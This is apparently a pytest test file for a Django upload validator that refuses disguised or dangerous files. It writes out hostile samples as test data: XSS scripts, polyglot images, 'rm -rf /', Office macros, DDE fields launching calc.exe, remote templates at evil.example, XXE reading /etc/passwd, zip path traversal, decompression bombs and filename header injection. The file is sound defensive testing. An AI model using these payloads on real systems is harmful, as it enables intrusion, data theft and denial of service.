"""What an upload may be: judged by its content; what swells, acts, hides or calls somebody is refused with the reason.

Each attack stands beside the same file without it, which is taken.
"""

from __future__ import annotations

import contextlib
import io
import struct
import time
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given, settings
from hypothesis import strategies as st
from office_sample import (
    BODY,
    TYPES,
    R,
    edited,
    entity,
    excel,
    field,
    having,
    in_body,
    packed,
    related,
    replaced,
    word,
)
from PIL import Image

from prongsai.errors import InputError
from prongsai.site.files import keep as room
from prongsai.site.files import office
from prongsai.site.files.keep import MEDIA_TYPES, for_display, for_print, kind_of, receive
from prongsai.site.files.names import SUFFIXES, safe_name

ALL = frozenset(MEDIA_TYPES)
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
SCRIPT = b"<script>alert(document.cookie)</script>"
WORD, EXCEL = word(), excel()


def upload(data: bytes, name: str) -> room.Received:
    return receive(SimpleUploadedFile(name, data), ALL)


def refused(data: bytes, name: str = "file.docx") -> str:
    with pytest.raises(InputError) as caught:
        upload(data, name)
    problem = caught.value.problems[0]
    assert problem.th
    assert problem.next_th
    assert problem.next_en
    return problem.code


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **options)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (PDF, "a.pdf", "pdf"),
        (PDF, "a.html", "pdf"),
        (PDF + SCRIPT, "a.html", "pdf"),
        (WORD, "a.docx", "docx"),
        (EXCEL, "a.xlsx", "xlsx"),
        (EXCEL, "a.docx", "xlsx"),
        (picture(), "a.png", "png"),
        (picture("JPEG") + b"<html>" + SCRIPT, "a.php", "jpeg"),
        (b"a,b\n1,2\n", "a.csv", "csv"),
        ("ข้อความ <script>".encode(), "a.txt", "txt"),
    ],
)
def test_content_says_the_kind_and_the_name_follows_it(data: bytes, name: str, kind: str) -> None:
    found = upload(data, name)
    assert found.kind == kind
    assert found.name.endswith(SUFFIXES[kind])


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "a.svg"),
        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "a.txt"),
        (b"<!DOCTYPE html><html>" + SCRIPT, "a.txt"),
        (b"\n\t \x0c<HTML>" + SCRIPT, "a.csv"),
        (b"\xef\xbb\xbf\xef\xbb\xbf<html>" + SCRIPT, "a.txt"),
        ("\u200b<html>".encode() + SCRIPT, "a.json"),
        ("<html>".encode("utf-16") + SCRIPT, "a.txt"),
        ("<html>".encode("utf-16-le"), "a.txt"),
        (b"GIF89a/*\x00*/=1;alert(1)//", "a.txt"),
        (b"GIF89a" + bytes(20), "a.png"),
        (b"\xff\xd8\xff" + SCRIPT, "a.jpg"),
        (b"\x89PNG\r\n\x1a\n" + SCRIPT, "a.png"),
        (b"MZ\x90\x00" + bytes(100), "a.pdf"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.docx"),
        (b"PK\x03\x04rubbish", "a.docx"),
        (packed({"a.txt": b"x"}), "a.docx"),
        (b"x" + PDF, "a.pdf"),
        (b"#!/bin/sh\nrm -rf /\n", "a.sh"),
    ],
)
def test_what_only_poses_is_refused(data: bytes, name: str) -> None:
    assert refused(data, name) == "file.kind"


def test_a_pdf_that_is_an_archive_too() -> None:
    assert refused(PDF + packed({"x.exe": b"MZ"}), "a.pdf") == "file.twofold"


END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
# Each attack: the file, and the code of the refusal.
ATTACKS: dict[str, tuple[bytes, str]] = {
    "macros of Word": (edited(WORD, having("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), "file.macros"),
    "macros under another name": (edited(WORD, having("word/media/a.png", b"\xd0\xcf\x11\xe0")), "file.object"),
    "macros declared": (
        edited(WORD, replaced(TYPES, "wordprocessingml.document.main", "ms-word.document.macroEnabled.main")),
        "file.macros",
    ),
    "old macro sheet": (edited(EXCEL, having("xl/macrosheets/sheet1.xml", b"<x/>")), "file.macros"),
    "ActiveX": (edited(WORD, having("word/activeX/activeX1.xml", b"<x/>")), "file.macros"),
    "remote template": (edited(WORD, related("attachedTemplate", "http://evil.example/x.dotm")), "file.remote"),
    "template on a share": (edited(WORD, related("attachedTemplate", r"\\evil.example\x.dotm")), "file.remote"),
    "template on a share, as URL": (edited(WORD, related("attachedTemplate", "file://evil.example/x")), "file.remote"),
    "template on a share, four slashes": (edited(WORD, related("attachedTemplate", "file:////evil/x")), "file.remote"),
    "remote picture": (edited(WORD, related("image", "https://evil.example/pixel.png")), "file.remote"),
    "other schemes": (edited(WORD, related("image", "mhtml:https://evil.example!x")), "file.remote"),
    "linked object": (edited(WORD, related("oleObject", "file:///c:/windows/calc.exe")), "file.object"),
    "HTML chunk": (edited(WORD, having("word/chunk.html", SCRIPT)), "file.object"),
    "program": (edited(WORD, having("word/embeddings/setup.exe", b"MZ")), "file.object"),
    "packed object": (edited(EXCEL, having("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")), "file.object"),
    "outside workbook": (
        edited(EXCEL, having("xl/externalLinks/_rels/x.xml.rels", (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
            f'Type="{R}/externalLinkPath" Target="https://evil.example/a.xlsx" TargetMode="External"/></Relationships>'
        ).encode())),
        "file.remote",
    ),
    "DDE of Excel": (edited(EXCEL, having("xl/anything.xml", b'<x><ddeLink ddeService="cmd"/></x>')), "file.command"),
    "DDE of Word": (edited(WORD, in_body(field("DDEAUTO c:\\\\windows\\\\calc.exe"))), "file.command"),
    "DDE in pieces": (edited(WORD, in_body(field(" D", "DE", "AUTO calc"))), "file.command"),
    "DDE behind a field": (edited(WORD, in_body(field(" calc", inner=field("QUOTE 68")[5:-6]))), "file.command"),
    "DDE unclosed": (edited(WORD, in_body(field("DDE calc").replace(END, ""))), "file.command"),
    "DDE in a simple field": (edited(WORD, in_body('<w:p><w:fldSimple w:instr=" dde calc x"/></w:p>')), "file.command"),
    "text of another file": (edited(WORD, in_body(field('INCLUDETEXT "file:///etc/passwd"'))), "file.command"),
    "entities that grow": (edited(WORD, entity()), "file.xml"),
    "entity of a file": (edited(WORD, entity('SYSTEM "file:///etc/passwd"')), "file.xml"),
    "entities in UTF-16": (
        edited(WORD, having("word/x.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16"))),
        "file.xml",
    ),
    "broken XML": (edited(WORD, having(BODY, b"<w:document")), "file.xml"),
    "bomb": (edited(WORD, having("word/media/a.xml", b"<a>" + b" " * 30_000_000 + b"</a>")), "file.bomb"),
    "many parts": (edited(WORD, lambda parts: parts.update({f"word/{n}": b"" for n in range(5001)})), "file.bomb"),
    "archive inside": (edited(WORD, having("word/media/a.png", packed({"a.txt": b"x"}))), "file.archive"),
    "archive twice inside": (
        edited(WORD, having("word/embeddings/a.xlsx", edited(EXCEL, having("xl/embeddings/b.xlsx", EXCEL)))),
        "file.archive",
    ),
    "macros inside an embedded workbook": (
        edited(WORD, having("word/embeddings/a.xlsx", edited(EXCEL, having("xl/vbaProject.bin", b"x")))), "file.macros",
    ),
    "way out": (edited(WORD, having("../../etc/cron.d/x", b"x")), "file.archive"),
    "absolute": (edited(WORD, having("/etc/passwd", b"x")), "file.archive"),
    "of Windows": (edited(WORD, having("word\\..\\x", b"x")), "file.archive"),
    "on a drive": (edited(WORD, having("C:evil", b"x")), "file.archive"),
    "twice": (edited(WORD, having("WORD/Document.xml", b"<x/>")), "file.archive"),
    "Word and Excel": (edited(WORD, having("xl/workbook.xml", b"<x/>")), "file.archive"),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_office_file_that_would_act_is_refused(attack: str) -> None:
    data, code = ATTACKS[attack]
    assert refused(data) == code


def test_positive_control_without_the_look_through_every_attack_is_taken(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office._Package, "_check_list", lambda self, entries: None)
    monkeypatch.setattr(office._Package, "_check_part", lambda self, part, content: None)
    attacks = set(ATTACKS) - {"Word and Excel"}  # which is neither of the two checks
    assert {attack for attack in attacks if upload(ATTACKS[attack][0], "a.docx").kind} == attacks


@pytest.mark.parametrize(
    "harmless",
    [
        edited(WORD, related("hyperlink", "https://www.example.go.th/")),
        edited(WORD, related("attachedTemplate", "file:///C:/Users/somchai/Templates/ours.dotx")),
        edited(EXCEL, related("externalLinkPath", "Book2.xlsx", part="xl/_rels/workbook.xml.rels")),
        edited(WORD, in_body(field(" PAGE ")), in_body(field('IF "x" = "DDE" "a" "b"'))),
        edited(WORD, in_body("<w:p><w:r><w:t>DDEAUTO calc</w:t></w:r></w:p>")),
        edited(WORD, having("word/embeddings/Microsoft_Excel_Sheet.xlsx", EXCEL)),
        edited(WORD, having("word/media/image1.png", picture())),
    ],
)
def test_what_people_write_is_taken(harmless: bytes) -> None:
    assert upload(harmless, "ours.docx").kind in ("docx", "xlsx")


def test_an_encrypted_part() -> None:
    data = bytearray(WORD)
    with zipfile.ZipFile(io.BytesIO(WORD)) as archive:
        offset = archive.infolist()[0].header_offset
    start = data.index(b"PK\x01\x02")
    data[start + 8] |= 1
    data[offset + 6] |= 1
    assert refused(bytes(data)) == "file.encrypted"


def test_a_bomb_of_bombs_is_counted_as_one(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each workbook inside is within its limit; together they are not."""
    inner = edited(EXCEL, having("xl/fill.xml", b"<a>" + b" " * 1_000_000 + b"</a>"))
    many = edited(WORD, lambda parts: parts.update({f"word/embeddings/{n}.xlsx": inner for n in range(12)}))
    assert upload(many, "a.docx").kind == "docx"
    monkeypatch.setattr(office, "MAX_UNPACKED", 10_000_000)
    assert refused(many) == "file.bomb"


def test_a_large_honest_workbook_is_looked_through_quickly() -> None:
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"constant_memory": True}) as book:
        sheet = book.add_worksheet()
        for row in range(10_000):
            sheet.write_row(row, 0, [row, 5, 4, 3, 2, 1, 0, 9, 8, 7])
    start = time.process_time()
    assert kind_of(out.getvalue(), "a.xlsx") == "xlsx"
    assert time.process_time() - start < 5


def huge_png(width: int, height: int) -> bytes:
    """A picture whose head alone is large: a few bytes on the wire."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(10_000, 9_000), (12_000, 9_000), (50_000, 50_000), (2**31 - 1, 2**31 - 1)])
def test_a_picture_bomb_is_refused_before_it_is_drawn(size: tuple[int, int]) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert refused(huge_png(*size), "a.png") == "file.pixels"


def test_text_in_a_picture_does_not_swell() -> None:
    """A compressed text chunk of 100 MB in a picture of one point."""
    text = b"a\0\0" + zlib.compress(b"x" * 100_000_000, 9)
    chunk = struct.pack("!I", len(text)) + b"zTXt" + text + struct.pack("!I", zlib.crc32(b"zTXt" + text))
    plain = picture()
    bomb = plain[:33] + chunk + plain[33:]
    tracemalloc.start()
    try:
        assert refused(bomb, "a.png") == "file.kind"
        assert tracemalloc.get_traced_memory()[1] < 20_000_000
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("shown", [for_display, for_print])
def test_a_shown_picture_has_nothing_but_the_picture(shown: Callable[[bytes], bytes]) -> None:
    place = Image.Exif()
    place[0x010E], place[0x0112] = "13.75 N 100.5 E", 6
    place.get_ifd(0x8825)[2] = (13.0, 45.0, 0.0)
    data = picture("JPEG", exif=place, comment=b"secret") + b"PK\x03\x04" + SCRIPT
    assert b"13.75" in data
    drawn = shown(data)
    with Image.open(io.BytesIO(drawn)) as image:
        assert image.size == (30, 40)  # turned as the camera was held
        assert not image.getexif()
        assert not {"comment", "exif", "icc_profile", "xmp"} & set(image.info)
    for hidden in (b"13.75", b"secret", b"alert", b"PK\x03\x04"):
        assert hidden not in drawn


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "PA", "RGB", "RGBA", "I;16"])
def test_pictures_of_every_mode_are_drawn(mode: str) -> None:
    assert for_display(picture("PNG", mode=mode if mode != "PA" else "P"))[:3] == b"\xff\xd8\xff"


@pytest.mark.parametrize(
    ("given", "kind", "safe"),
    [
        ("รายงานผล ๖ เดือน.pdf", "pdf", "รายงานผล ๖ เดือน.pdf"),
        ("น้ำ.PDF", "pdf", "น้ำ.PDF"),
        ("invoice\u202efdp.exe", "pdf", "invoicefdp.exe.pdf"),
        ("a\u2066b\u2069\u200f.pdf", "pdf", "ab.pdf"),
        ('x";\r\nSet-Cookie: a=b.pdf', "pdf", "x_; Set-Cookie_ a=b.pdf"),
        ("../../etc/passwd", "txt", "passwd.txt"),
        ("C:\\Users\\me\\แผน.docx", "docx", "แผน.docx"),
        ("page.html", "pdf", "page.html.pdf"),
        ("photo.jpeg", "jpeg", "photo.jpeg"),
        ("...", "png", "file.png"),
        ("", "csv", "file.csv"),
        (".htaccess", "txt", "htaccess.txt"),
        ("con.pdf", "pdf", "_con.pdf"),
        ("a\u2028b.txt", "txt", "a b.txt"),
        ("x" * 500 + ".pdf", "pdf", "x" * 196 + ".pdf"),
        ("a.pdf. . ", "pdf", "a.pdf"),
    ],
)
def test_names(given: str, kind: str, safe: str) -> None:
    assert safe_name(given, kind) == safe


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=260), st.sampled_from(["", *SUFFIXES]))
def test_no_name_leads_out_or_hides_what_it_is(text: str, kind: str) -> None:
    found = safe_name(text, kind)
    assert found
    assert len(found) <= 201
    assert safe_name(found, kind) == found
    assert found.isprintable()
    assert not set('/\\:*?"<>|') & set(found)
    assert found[0] != "."
    assert not kind or found.lower().endswith(SUFFIXES[kind])


@settings(max_examples=150, deadline=None)
@given(st.sampled_from([b"%PDF-", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b""]), st.binary(max_size=400))
def test_no_bytes_break_the_door(head: bytes, rest: bytes) -> None:
    with contextlib.suppress(InputError):
        assert kind_of(head + rest, "a.txt") in {"", *MEDIA_TYPES}


@settings(max_examples=40, deadline=None)
@given(st.sampled_from([WORD, EXCEL, picture(), picture("JPEG"), PDF]), st.data())
def test_no_damage_breaks_the_door(data: bytes, draw: st.DataObject) -> None:
    spoiled = bytearray(data)
    for _ in range(draw.draw(st.integers(1, 6))):
        spoiled[draw.draw(st.integers(0, len(data) - 1))] = draw.draw(st.integers(0, 255))
    try:
        kind = kind_of(bytes(spoiled), "a.bin")
    except InputError:
        return
    assert kind in {"", *MEDIA_TYPES}
